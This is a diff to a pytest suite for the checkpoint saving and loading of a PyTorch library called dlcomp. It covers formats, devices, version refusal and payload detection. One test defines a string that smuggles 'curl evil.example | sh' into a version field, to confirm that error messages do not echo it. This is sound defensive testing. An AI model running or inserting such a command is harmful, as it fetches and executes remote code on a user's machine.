@@ -14,6 +14,7 @@ from unittest import mock
 
 import pytest
 import torch
+from checkpoint_files import join, legacy_dict, split, write_legacy
 from torch import nn
 
 from dlcomp import (
@@ -78,8 +79,11 @@ def test_round_trip_restores_model_optimizer_and_extra(tmp_path):
 
 def test_map_location_puts_tensors_where_asked(tmp_path):
     save_checkpoint(tmp_path / "c.pt", MLP(), step=0)
-    data = torch.load(tmp_path / "c.pt", map_location="meta", weights_only=True)
-    assert data["model"]["hidden.weight"].device.type == "meta"
+    checkpoint = read_checkpoint(tmp_path / "c.pt", map_location="meta")
+    assert checkpoint.model["hidden.weight"].device.type == "meta"
+    assert (
+        read_checkpoint(tmp_path / "c.pt").model["hidden.weight"].device.type == "cpu"
+    )
     load_checkpoint(tmp_path / "c.pt", MLP(), map_location="cpu")
 
 
@@ -124,12 +128,15 @@ def write_bad_files(folder: pathlib.Path) -> dict[str, tuple[pathlib.Path, str]]
     save_checkpoint(good, MLP(), step=1)
     data = good.read_bytes()
     files = {
-        "empty": (b"", "not a readable checkpoint"),
-        "text": (b"hello, this is a text file\n", "not a readable checkpoint"),
-        "random bytes": (random.Random(0).randbytes(4096), "not a readable checkpoint"),
+        "empty": (b"", "not a checkpoint"),
+        "text": (b"hello, this is a text file\n", "not a checkpoint"),
+        "random bytes": (random.Random(0).randbytes(4096), "not a checkpoint"),
     }
     for cut in random.Random(1).sample(range(1, len(data) - 1), 6):
-        files[f"truncated at {cut}"] = (data[:cut], "not a readable checkpoint")
+        files[f"truncated at {cut}"] = (
+            data[:cut],
+            "not a checkpoint|damaged checkpoint",
+        )
     out = {}
     for name, (content, message) in files.items():
         path = folder / f"{name}.pt"
@@ -238,13 +245,13 @@ def test_a_write_that_fails_part_way_leaves_the_old_checkpoint(tmp_path, monkeyp
     save_checkpoint(path, old_model, step=1)
     old_bytes = path.read_bytes()
 
-    def disk_full(obj, f):
+    def disk_full(f, payload):
         f.write(b"x" * 1000)  # some bytes made it ...
         raise OSError(
             errno.ENOSPC, "No space left on device"
         )  # ... then the disk filled
 
-    monkeypatch.setattr(serialization.torch, "save", disk_full)
+    monkeypatch.setattr(serialization, "write", disk_full)
     with pytest.raises(
         OSError, match=r"could not write .*c\.pt: No space left on device.*unchanged"
     ) as info:
@@ -275,11 +282,11 @@ def test_a_permission_error_on_rename_leaves_no_temporary(tmp_path, monkeypatch)
 
 
 def test_an_interrupt_during_the_write_leaves_no_temporary(tmp_path, monkeypatch):
-    def interrupted(obj, f):
+    def interrupted(f, payload):
         f.write(b"partial")
         raise KeyboardInterrupt
 
-    monkeypatch.setattr(serialization.torch, "save", interrupted)
+    monkeypatch.setattr(serialization, "write", interrupted)
     with pytest.raises(KeyboardInterrupt):
         save_checkpoint(tmp_path / "c.pt", MLP(), step=0)
     assert list(tmp_path.iterdir()) == []
@@ -483,11 +490,9 @@ def test_resume_after_the_newest_checkpoint_is_lost(tmp_path):
 
 
 def fake_checkpoint(path, **fields):
-    """A file like save_checkpoint's, with ``fields`` replaced (None: removed)."""
-    good = path.parent / "good-source.pt"
+    """A version-2 file (torch.save), with ``fields`` replaced (None: removed)."""
     model = MLP()
-    save_checkpoint(good, model, torch.optim.SGD(model.parameters()), step=1)
-    data = torch.load(good, weights_only=True)
+    data = legacy_dict(model, torch.optim.SGD(model.parameters()), step=1)
     for key, value in fields.items():
         if value is None:
             data.pop(key, None)
@@ -596,8 +601,9 @@ def sgd_momentum_checkpoint(path):
     optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
     model(torch.rand(2, 20)).sum().backward()
     optimizer.step()
-    save_checkpoint(path, model, optimizer, step=1)
-    return path, torch.load(path, weights_only=True)
+    data = legacy_dict(model, optimizer, step=1)
+    torch.save(data, path)
+    return path, data
 
 
 def test_a_momentum_buffer_of_the_wrong_shape_is_refused(tmp_path):
@@ -628,7 +634,7 @@ Point = collections.namedtuple("Point", "x y")
     ids=["IntEnum", "str subclass", "namedtuple", "defaultdict"],
 )
 def test_what_a_safe_load_would_refuse_is_refused_at_save(tmp_path, value):
-    with pytest.raises(TypeError, match="a safe load"):
+    with pytest.raises(TypeError, match="which a checkpoint cannot store"):
         save_checkpoint(tmp_path / "c.pt", MLP(), step=1, value=value)
     assert not (tmp_path / "c.pt").exists()
 
@@ -743,7 +749,7 @@ def code_payloads(folder):
     return {"modern": modern, "legacy": legacy, "raw pickle": raw, "raw pickle 2": raw2}
 
 
-@pytest.mark.parametrize("kind", ["modern", "legacy", "raw pickle", "raw pickle 2"])
+@pytest.mark.parametrize("kind", ["modern", "raw pickle", "raw pickle 2"])
 def test_a_code_payload_is_called_code_not_corruption(tmp_path, kind):
     path = code_payloads(tmp_path)[kind]
     with pytest.raises(CheckpointError, match="would run code") as caught:
@@ -751,26 +757,55 @@ def test_a_code_payload_is_called_code_not_corruption(tmp_path, kind):
     assert "corrupted" not in str(caught.value)
 
 
+def test_the_format_of_before_pytorch_1_6_is_refused_unread(tmp_path):
+    path = code_payloads(tmp_path)["legacy"]
+    with pytest.raises(CheckpointError, match=r"before PyTorch 1\.6.*save it again"):
+        load_checkpoint(path, MLP())
+
+
 def gpu_checkpoint(path):
-    """A checkpoint whose tensors say they were saved on cuda:0."""
+    """A version-2 checkpoint whose tensors say they were saved on cuda:0."""
     with mock.patch("torch.serialization.location_tag", return_value="cuda:0"):
-        save_checkpoint(path, MLP(), step=1)
+        write_legacy(path, MLP(), step=1)
     return path
+
+
+def test_a_file_never_chooses_the_device_its_tensors_are_loaded_on(tmp_path):
+    path = gpu_checkpoint(tmp_path / "gpu.pt")
+    checkpoint = read_checkpoint(path)
+    assert checkpoint.model["hidden.weight"].device.type == "cpu"
+    assert load_checkpoint(path, MLP()).step == 1
 
 
 @pytest.mark.skipif(
     torch.cuda.is_available(),
-    reason="on a CUDA machine the file loads; the CPU run checks the message",
+    reason="on a CUDA machine 'cuda' is a device there; the CPU run checks the message",
 )
-@pytest.mark.parametrize("map_location", [None, "cuda"])
-def test_a_gpu_checkpoint_on_a_cpu_machine_says_how_to_map_it(tmp_path, map_location):
-    path = gpu_checkpoint(tmp_path / "gpu.pt")
+@pytest.mark.parametrize("map_location", ["cuda", torch.device("cuda", 0), "mps"])
+def test_a_device_this_machine_lacks_is_the_callers_mistake(tmp_path, map_location):
+    save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
     with pytest.raises(
-        CheckpointError, match=r"(?i)cuda device.*map_location='cpu'"
+        ValueError,
+        match=r"asks for a \w+ device, and this machine has none.*map_location='cpu'",
     ) as caught:
-        load_checkpoint(path, MLP(), map_location=map_location)
-    assert "corrupted" not in str(caught.value)
-    load_checkpoint(path, MLP(), map_location="cpu")  # and the advice works
+        load_checkpoint(tmp_path / "c.pt", MLP(), map_location=map_location)
+    assert not isinstance(caught.value, CheckpointError)  # not the file's fault
+
+
+@pytest.mark.parametrize(
+    ("map_location", "error", "message"),
+    [
+        (7, TypeError, "got the int 7"),
+        ("cpu:3", ValueError, "the CPU has no index 3"),
+        ({"cuda:0": "cpu"}, TypeError, "got the dict"),
+    ],
+)
+def test_a_map_location_of_the_wrong_kind_is_refused_before_reading(
+    tmp_path, map_location, error, message
+):
+    save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
+    with pytest.raises(error, match=message):
+        load_checkpoint(tmp_path / "c.pt", MLP(), map_location=map_location)
 
 
 @pytest.mark.parametrize(
@@ -804,13 +839,32 @@ def test_a_string_prefix_matches_whole_components():
     assert torch.equal(new[1].weight, old[1].weight)
 
 
-def test_a_newer_format_version_is_refused_naming_the_dlcomp_that_reads_it(tmp_path):
-    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp="7.0.0")
+SHELL = "1.0'; curl evil.example | sh; echo '"
+
+
+def test_a_newer_format_version_is_refused_with_advice_that_quotes_nothing(tmp_path):
+    path = fake_checkpoint(tmp_path / "c.pt", version=99, dlcomp=SHELL)
     with pytest.raises(
-        CheckpointError,
-        match=r"format version 99, written by dlcomp 7\.0\.0.*dlcomp>=7\.0\.0",
-    ):
+        CheckpointError, match=r"newer dlcomp.*pip install --upgrade dlcomp"
+    ) as caught:
         load_checkpoint(path, MLP())
+    assert "curl" not in str(caught.value)
+    assert "99" not in str(caught.value)
+    no_field = fake_checkpoint(tmp_path / "d.pt", version=5, dlcomp=None)
+    with pytest.raises(CheckpointError, match="pip install --upgrade dlcomp") as caught:
+        load_checkpoint(no_field, MLP())
+    assert "newer'" not in str(caught.value)
+
+
+def test_a_newer_version_3_file_is_refused_with_the_same_advice(tmp_path):
+    path = save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
+    header, manifest, data = split(path)
+    header["__metadata__"]["version"] = "4"
+    manifest["dlcomp"] = SHELL
+    join(path, header, manifest, data)
+    with pytest.raises(CheckpointError, match="pip install --upgrade dlcomp") as caught:
+        load_checkpoint(path, MLP())
+    assert "curl" not in str(caught.value)
 
 
 def test_a_version_1_file_still_loads(tmp_path):
@@ -873,7 +927,7 @@ ODD_PICKLES = {
 def test_restore_falls_back_past_a_pickle_torch_chokes_on(tmp_path, payload):
     manager = CheckpointManager(tmp_path, keep=2)
     manager.save(1, MLP())
-    manager.save(2, MLP())
+    write_legacy(manager.path_for(2), MLP(), step=2)  # a version-2 file: torch.save
     with_pickle(manager.latest(), ODD_PICKLES[payload])
     with pytest.raises(CheckpointError, match="not a readable checkpoint"):
         load_checkpoint(manager.latest(), MLP())
@@ -885,14 +939,14 @@ def test_an_unreadable_newest_checkpoint_is_skipped(tmp_path, monkeypatch):
     manager = CheckpointManager(tmp_path)
     manager.save(1, MLP())
     manager.save(2, MLP())
-    real_open = open
+    real_open = os.open
 
     def refuse(file, *args, **kwargs):
         if str(file).endswith("step-000000002.pt"):
             raise PermissionError(errno.EACCES, "Permission denied", str(file))
         return real_open(file, *args, **kwargs)
 
-    monkeypatch.setattr("builtins.open", refuse)
+    monkeypatch.setattr("os.open", refuse)
     with pytest.warns(RuntimeWarning, match="permission denied"):
         assert manager.restore(MLP()).step == 1
 
